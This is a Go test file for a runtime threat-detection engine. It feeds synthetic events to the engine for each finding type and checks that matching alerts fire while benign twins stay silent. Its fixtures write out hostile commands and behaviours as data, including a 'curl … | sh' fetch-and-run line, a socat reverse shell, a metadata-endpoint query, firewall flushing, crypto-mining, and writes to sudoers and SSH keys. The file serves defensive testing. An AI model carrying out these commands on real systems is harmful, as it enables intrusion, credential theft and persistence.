package detect

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/mamori-dev/mamori/internal/event"
	"github.com/mamori-dev/mamori/internal/finding"
	"github.com/mamori-dev/mamori/internal/intel"
)

// Unit-level triggers for every catalogue type: one crafted event (or
// sequence) per type through the built-in engine. The real attacks are in
// test/e2e; this pins the contract fast and without a kernel — each
// finding validates against the schema, context keys included.

const (
	ipCC, ipCrypto, ipTor, ipBlackhole, ipDrop = "192.0.2.10", "192.0.2.11", "192.0.2.12", "192.0.2.13", "192.0.2.14"
)

var (
	sumMalware = strings.Repeat("a1", 32)
	sumCustom  = strings.Repeat("b2", 32)
)

func intelEngine(t testing.TB) *Engine {
	t.Helper()
	dir := t.TempDir()
	for name, content := range map[string]string{
		"cc.txt": ipCC, "crypto.txt": ipCrypto, "tor.txt": ipTor, "blackhole.txt": ipBlackhole, "droppoint.txt": ipDrop,
		"malware.txt": sumMalware, "malware-custom.txt": sumCustom,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	store, err := intel.NewStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	return NewEngine(finding.Agent{NodeID: "n1", Version: "test"}, nil, Builtin(store)...)
}

// proc is an acting process; ctr a container with a writable layer.
func proc(exe string, args ...string) event.Process {
	return event.Process{PID: 100, NSPID: 7, UUID: "p-" + exe, ParentUUID: "parent", Exe: exe, Comm: filepath.Base(exe),
		Args: append([]string{filepath.Base(exe)}, args...), Start: time.Unix(1000, 0)}
}

func ctr(t testing.TB, upperFiles ...string) *event.Container {
	c := &event.Container{ID: strings.Repeat("c", 64), Runtime: "podman", Name: "app", UpperDir: t.TempDir()}
	for _, f := range upperFiles {
		p := filepath.Join(c.UpperDir, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("x"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

func execOf(p event.Process, c *event.Container, x *event.Exec) *event.Event {
	if x.Path == "" {
		x.Path = p.Exe
	}
	if x.Args == nil {
		x.Args = p.Args
	}
	return &event.Event{Kind: event.KindExec, Time: time.Unix(2000, 0), Process: p, Container: c, Exec: x}
}

func dns(name string) *event.Event {
	return &event.Event{Kind: event.KindDNS, Time: time.Unix(2000, 0), Process: proc("/usr/bin/curl"),
		DNS: &event.DNS{Name: name, Type: "A", Server: "10.0.0.2", Protocol: "udp"}}
}

func connect(ip string) *event.Event {
	return &event.Event{Kind: event.KindConnect, Time: time.Unix(2000, 0), Process: proc("/usr/bin/curl"),
		Net: &event.Net{Family: "inet", RemoteAddr: ip, RemotePort: 443}}
}

func fileEv(kind event.Kind, p event.Process, c *event.Container, f *event.File) *event.Event {
	return &event.Event{Kind: kind, Time: time.Unix(2000, 0), Process: p, Container: c, File: f}
}

func triggers(t *testing.T) map[string][]*event.Event {
	shell := proc("/bin/bash", "-i")
	shell.ParentUUID = "p-/usr/bin/socat"
	server := proc("/usr/sbin/websrv")
	websh := proc("/bin/sh", "-i")
	websh.ParentUUID = server.UUID
	websh.Lineage = []event.Ancestor{{PID: 99, UUID: server.UUID, Exe: server.Exe, Name: "websrv"}}
	elevated := proc("/tmp/rootme")
	elevated.UID, elevated.EUID = 1000, 0
	hashed := proc("/tmp/payload")
	hashed.ExeSHA256 = sumMalware
	hashedCustom := proc("/tmp/payload2")
	hashedCustom.ExeSHA256 = sumCustom
	accept := connect(ipTor)
	accept.Kind = event.KindAccept
	rebind := dns("rebind.example")
	rebind.DNS.Response, rebind.DNS.Answers = true, []string{"169.254.169.254"}
	c := ctr(t, "/tmp/dropped", "/tmp/libevil.so")
	return map[string][]*event.Event{
		"Backdoor:Runtime/C&CActivity.B":                    {connect(ipCC)},
		"Backdoor:Runtime/C&CActivity.B!DNS":                {dns("c2.guarddutyc2activityb.com")},
		"CryptoCurrency:Runtime/BitcoinTool.B":              {connect(ipCrypto)},
		"CryptoCurrency:Runtime/BitcoinTool.B!DNS":          {dns("crypto.guarddutyc2activityb.com")},
		"UnauthorizedAccess:Runtime/TorRelay":               {accept},
		"UnauthorizedAccess:Runtime/TorClient":              {connect(ipTor)},
		"Trojan:Runtime/BlackholeTraffic":                   {connect(ipBlackhole)},
		"Trojan:Runtime/BlackholeTraffic!DNS":               {dns("guarddutyblackholeactivity.com")},
		"Trojan:Runtime/DropPoint":                          {connect(ipDrop)},
		"Trojan:Runtime/DropPoint!DNS":                      {dns("guarddutydroppointactivity.com")},
		"Trojan:Runtime/DGADomainRequest.C!DNS":             {dns("guarddutydgaactivity.com")},
		"Trojan:Runtime/DriveBySourceTraffic!DNS":           {dns("guarddutydrivebyactivity.com")},
		"Trojan:Runtime/PhishingDomainRequest!DNS":          {dns("guarddutyphishingactivity.com")},
		"Impact:Runtime/AbusedDomainRequest.Reputation":     {dns("abused-rep.guarddutyc2activityb.com")},
		"Impact:Runtime/BitcoinDomainRequest.Reputation":    {dns("crypto-rep.guarddutyc2activityb.com")},
		"Impact:Runtime/MaliciousDomainRequest.Reputation":  {dns("malicious-rep.guarddutyc2activityb.com")},
		"Impact:Runtime/SuspiciousDomainRequest.Reputation": {dns("suspicious-rep.guarddutyc2activityb.com")},
		"UnauthorizedAccess:Runtime/MetadataDNSRebind":      {rebind},
		"Execution:Runtime/NewBinaryExecuted": {execOf(proc("/tmp/dropped"), c,
			&event.Exec{UpperLayer: true, CTime: time.Unix(1500, 0)})},
		"Execution:Runtime/NewLibraryLoaded": {{Kind: event.KindMmap, Process: proc("/usr/bin/python3"), Container: c,
			Memory: &event.Memory{Path: "/tmp/libevil.so", Prot: "r-x"}}},
		"Execution:Runtime/ReverseShell": {
			{Kind: event.KindDup, Process: proc("/usr/bin/socat"), Net: &event.Net{Family: "inet", RemoteAddr: "198.51.100.1", OldFD: 3}},
			execOf(shell, nil, &event.Exec{})},
		"DefenseEvasion:Runtime/FilelessExecution": {execOf(proc("/memfd:payload"), nil, &event.Exec{Memfd: true})},
		"DefenseEvasion:Runtime/ProcessInjection.Proc": {fileEv(event.KindOpen, proc("/tmp/inject"), nil,
			&event.File{Path: "/proc/4242/mem", Write: true})},
		"DefenseEvasion:Runtime/ProcessInjection.Ptrace": {{Kind: event.KindPtrace, Process: proc("/tmp/inject"),
			Access: &event.Access{Op: "ptrace", Request: "PTRACE_POKETEXT", TargetPID: 4242}}},
		"DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite": {{Kind: event.KindProcessVM, Process: proc("/tmp/inject"),
			Access: &event.Access{Op: "process_vm_writev", TargetPID: 4242}}},
		"DefenseEvasion:Runtime/PtraceAntiDebugging": {{Kind: event.KindPtrace, Process: proc("/tmp/malware"),
			Access: &event.Access{Op: "ptrace", Request: "PTRACE_TRACEME"}}},
		"DefenseEvasion:Runtime/KernelModuleLoaded": {{Kind: event.KindModule, Process: proc("/usr/sbin/insmod"),
			Module: &event.Module{Name: "rootkit", Path: "/tmp/rootkit.ko", FromFile: true}}},
		"DefenseEvasion:Runtime/SuspiciousCommand":     {execOf(proc("/usr/sbin/iptables", "-F"), nil, &event.Exec{})},
		"DefenseEvasion:Runtime/SensitiveFileModified": {fileEv(event.KindUnlink, proc("/bin/rm"), nil, &event.File{Path: "/var/log/auth.log"})},
		"Discovery:Runtime/SuspiciousCommand":          {execOf(proc("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/"), nil, &event.Exec{})},
		"Execution:Runtime/SuspiciousCommand":          {execOf(proc("/bin/sh", "-c", "curl -s http://x/i.sh | sh"), nil, &event.Exec{})},
		"Execution:Runtime/SuspiciousShellCreated": {
			{Kind: event.KindListen, Process: server, Net: &event.Net{Family: "inet", LocalPort: 8080}},
			execOf(websh, nil, &event.Exec{})},
		"Execution:Runtime/SuspiciousTool":                  {execOf(proc("/usr/bin/nmap", "-sS", "10.0.0.0/24"), nil, &event.Exec{})},
		"Execution:Runtime/MaliciousFileExecuted":           {execOf(hashed, nil, &event.Exec{})},
		"Execution:Runtime/MaliciousFileExecuted.Custom":    {execOf(hashedCustom, nil, &event.Exec{})},
		"Impact:Runtime/CryptoMinerExecuted":                {execOf(proc("/tmp/xmrig", "-o", "stratum+tcp://pool:3333"), nil, &event.Exec{})},
		"Persistence:Runtime/SuspiciousCommand":             {execOf(proc("/usr/bin/crontab", "/tmp/jobs"), nil, &event.Exec{})},
		"Persistence:Runtime/SensitiveFileModified":         {fileEv(event.KindOpen, proc("/bin/sh"), nil, &event.File{Path: "/root/.ssh/authorized_keys", Write: true})},
		"PrivilegeEscalation:Runtime/SuspiciousCommand":     {execOf(proc("/bin/chmod", "u+s", "/tmp/x"), nil, &event.Exec{})},
		"PrivilegeEscalation:Runtime/SensitiveFileModified": {fileEv(event.KindOpen, proc("/bin/sh"), nil, &event.File{Path: "/etc/sudoers", Write: true})},
		"PrivilegeEscalation:Runtime/ContainerMountsHostDirectory": {{Kind: event.KindMount, Result: -1, Error: "EPERM",
			Process: proc("/bin/mount"), Container: c, Mount: &event.Mount{Source: "/dev/vda1", Target: "/mnt", FSType: "ext4"}}},
		"PrivilegeEscalation:Runtime/DockerSocketAccessed": {{Kind: event.KindConnect, Process: proc("/usr/bin/curl"), Container: c,
			Net: &event.Net{Family: "unix", SocketPath: "/var/run/docker.sock"}}},
		"PrivilegeEscalation:Runtime/RuncContainerEscape": {fileEv(event.KindOpen, proc("/tmp/exploit"), c,
			&event.File{Path: "/usr/bin/runc", Write: true})},
		"PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified": {fileEv(event.KindOpen, proc("/bin/sh"), c,
			&event.File{Path: "/sys/fs/cgroup/rdma/x/release_agent", Write: true})},
		"PrivilegeEscalation:Runtime/UserfaultfdUsage": {{Kind: event.KindUserfaultfd, Process: proc("/tmp/exploit"), Memory: &event.Memory{}}},
		"PrivilegeEscalation:Runtime/ElevationToRoot":  {execOf(elevated, nil, &event.Exec{Mode: 0o4755})},
		"CredentialAccess:Runtime/SensitiveFileRead":   {fileEv(event.KindOpen, proc("/bin/cat"), nil, &event.File{Path: "/etc/shadow"})},
		"Discovery:Runtime/RawSocketCreated": {{Kind: event.KindSocket, Process: proc("/usr/sbin/tcpdump"), Container: c,
			Net: &event.Net{Family: "packet", Type: "raw"}}},
	}
}

func TestEveryTypeTriggers(t *testing.T) {
	trig := triggers(t)
	for _, k := range finding.Catalogue {
		evs, ok := trig[k.Type]
		if !ok {
			t.Errorf("%s: no trigger in this table", k.Type)
			continue
		}
		t.Run(k.Type, func(t *testing.T) {
			e := intelEngine(t)
			var got []*finding.Finding
			for _, ev := range evs {
				e.Process(ev, func(f *finding.Finding) { got = append(got, f) })
			}
			var f *finding.Finding
			for _, g := range got {
				if g.Type == k.Type {
					f = g
				}
			}
			if f == nil {
				types := []string{}
				for _, g := range got {
					types = append(types, g.Type)
				}
				t.Fatalf("not raised; got %v", types)
			}
			if err := finding.Validate(f); err != nil {
				t.Fatal(err)
			}
			b, err := json.Marshal(f)
			if err != nil {
				t.Fatal(err)
			}
			if err := finding.ValidateJSON(b); err != nil {
				t.Fatal(err)
			}
			if f.Service.Detector == nil || f.Service.Detector.Name == "" || f.Service.Detector.Technique == "" {
				t.Errorf("detector detail %+v", f.Service.Detector)
			}
		})
	}
}

// Benign twins of a few triggers stay silent.
func TestBenignTwinsStaySilent(t *testing.T) {
	c := ctr(t)
	for name, ev := range map[string]*event.Event{
		"image binary in a container": execOf(proc("/usr/bin/ls"), c, &event.Exec{}),
		"unlisted domain":             dns("example.org"),
		"unlisted address":            connect("192.0.2.200"),
		"DNS answer elsewhere": {Kind: event.KindDNS, Process: proc("/usr/bin/curl"),
			DNS: &event.DNS{Response: true, Name: "example.org", Answers: []string{"93.184.216.34"}}},
		"log appended":         fileEv(event.KindOpen, proc("/usr/sbin/rsyslogd"), nil, &event.File{Path: "/var/log/syslog", Write: true}),
		"shadow read by login": fileEv(event.KindOpen, proc("/usr/sbin/sshd"), nil, &event.File{Path: "/etc/shadow"}),
		"secrets' directory listed": fileEv(event.KindOpen, proc("/bin/ls"), nil,
			&event.File{Path: "/root/.ssh", Flags: unix.O_RDONLY | unix.O_DIRECTORY | unix.O_CLOEXEC}),
		"O_PATH handle of a secret": fileEv(event.KindOpen, proc("/bin/cat"), nil, &event.File{Path: "/etc/shadow", Flags: unix.O_PATH}),
		"proc mem of itself":        fileEv(event.KindOpen, proc("/usr/bin/gdb"), nil, &event.File{Path: "/proc/self/mem", Write: true}),
		"tmpfs mount in a container": {Kind: event.KindMount, Process: proc("/bin/mount"), Container: c,
			Mount: &event.Mount{Source: "tmpfs", Target: "/run", FSType: "tmpfs"}},
		"sudo":               execOf(func() event.Process { p := proc("/usr/bin/sudo", "ls"); p.UID = 1000; return p }(), nil, &event.Exec{Mode: 0o4755}),
		"plain shell script": execOf(proc("/bin/sh", "-c", "ls -la /tmp && cat /tmp/notes.txt"), nil, &event.Exec{}),
	} {
		e := intelEngine(t)
		e.Process(ev, func(f *finding.Finding) { t.Errorf("%s raised %s", name, f.Type) })
	}
}
